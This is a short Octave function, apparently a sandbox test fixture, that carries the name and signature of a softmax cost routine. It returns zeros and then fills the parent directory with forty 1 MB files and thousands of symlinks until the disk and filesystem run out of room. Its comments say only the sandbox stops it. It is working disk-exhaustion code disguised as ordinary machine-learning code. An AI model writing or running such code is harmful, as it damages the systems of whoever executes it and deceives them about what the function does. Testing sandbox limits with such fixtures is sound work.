% Fills its folder with data and then with names, until neither has room.
% expect: values error
% only the sandbox stops it
function [cost, grad] = softmaxCost(theta, numClasses, inputSize, lambda, data, labels)
  cost = 0;
  grad = zeros(size(theta));
  block = repmat("x", 1, 2 ^ 20);
  for k = 1:40
    file = fopen(sprintf("../data-%d", k), "w");
    if file < 0 || fwrite(file, block) < numel(block)
      break;
    endif
    fclose(file);
  endfor
  for k = 1:9000
    if symlink("x", sprintf("../name-%d", k)) != 0
      break;
    endif
  endfor
endfunction
